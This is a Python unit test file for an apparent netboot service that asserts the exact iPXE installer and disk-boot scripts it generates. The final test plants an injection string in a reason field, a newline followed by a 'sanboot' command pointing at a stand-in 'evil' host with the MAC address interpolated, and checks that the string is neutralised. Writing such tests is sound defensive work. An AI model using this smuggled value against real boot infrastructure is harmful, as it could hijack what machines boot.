from __future__ import annotations

from kairos_netboot.boot.decide import decide
from kairos_netboot.boot.lifecycle import State
from kairos_netboot.boot.plan import make_plan
from kairos_netboot.boot.site import ExitMethod
from kairos_netboot.boot.tokens import BootTokens
from kairos_netboot.boot.urls import Urls
from kairos_netboot.config.resources import load_scripts
from kairos_netboot.values import Arch, Firmware
from tests.unit.boot.sample import MAC, fleet, node

SCRIPTS = load_scripts()
TOKENS = BootTokens("d" * 32)
BASE = "http://192.0.2.2:8080"
FILES = f"{BASE}/boot/52-54-00-00-00-01"


def test_the_install_script_whole() -> None:
    decision = decide(fleet(node()), MAC, Firmware.UEFI, Arch.AMD64)
    script = SCRIPTS.install(make_plan(decision, MAC, Urls(BASE), TOKENS))
    assert (
        script
        == f"""#!ipxe
# kairos-netboot: alpha, installer start 1 of at most 3
# image debian sha256:{"0" * 64}
echo kairos-netboot: alpha installs debian (1 of at most 3 tries)
imgfree
kernel --name kernel {FILES}/{"1" * 64}/kernel initrd=initrd \
root=live:{FILES}/{"3" * 64}/rootfs.squashfs rd.live.overlay.overlayfs rd.neednet=1 ip=dhcp \
rd.cos.disable netboot install-mode net.ifnames=1 selinux=0 rd.immucore.sysrootwait=900 \
console=ttyS0 console=tty1 config_url={BASE}/documents/{"d" * 32}/cloud-config.yaml || goto failed
initrd --name initrd {FILES}/{"2" * 64}/initrd || goto failed
boot || goto failed

:failed
echo kairos-netboot: alpha could not start the installer; the line above says why
imgfetch --name report {BASE}/reports/{TOKENS.report}/boot-failed ||
sleep 10
reboot
"""
    )


def _to_disk(exit_method: ExitMethod) -> str:
    decision = decide(fleet(node(State.READY)), MAC, Firmware.BIOS, Arch.AMD64)
    object.__setattr__(decision, "exit", exit_method)
    return SCRIPTS.to_disk(decision, Urls(BASE))


def test_the_exit_script_whole() -> None:
    assert _to_disk(ExitMethod.EXIT) == (
        "#!ipxe\n"
        "echo kairos-netboot: alpha is installed and ready: it boots its disk\n"
        '# Not 0: UEFI takes success for "booted" and stops at its menu instead of going on to '
        "the disk.\n"
        "exit 1\n"
    )


def test_a_machine_that_asks_in_spite_of_silence_is_sent_away_too() -> None:
    assert _to_disk(ExitMethod.SILENCE) == _to_disk(ExitMethod.EXIT)


def test_sanboot_starts_the_first_disk_and_leaves_where_there_is_none() -> None:
    script = _to_disk(ExitMethod.SANBOOT)
    assert script.index("sanboot --no-describe --drive 0x80 ||") < script.index("exit 1")


def test_grub_starts_the_disks_own_loader_and_leaves_where_there_is_none() -> None:
    script = _to_disk(ExitMethod.GRUB)
    assert script.index(f"chain {BASE}/loaders/disk-x64.efi ||") < script.index("exit 1")


def test_a_reason_cannot_become_a_command() -> None:
    decision = decide(fleet(node(State.READY)), MAC, Firmware.BIOS, Arch.AMD64)
    object.__setattr__(decision, "reason", "a\nsanboot http://evil ${net0/mac}")
    assert "echo kairos-netboot: a sanboot http://evil {net0/mac}\n" in SCRIPTS.to_disk(
        decision, Urls(BASE)
    )
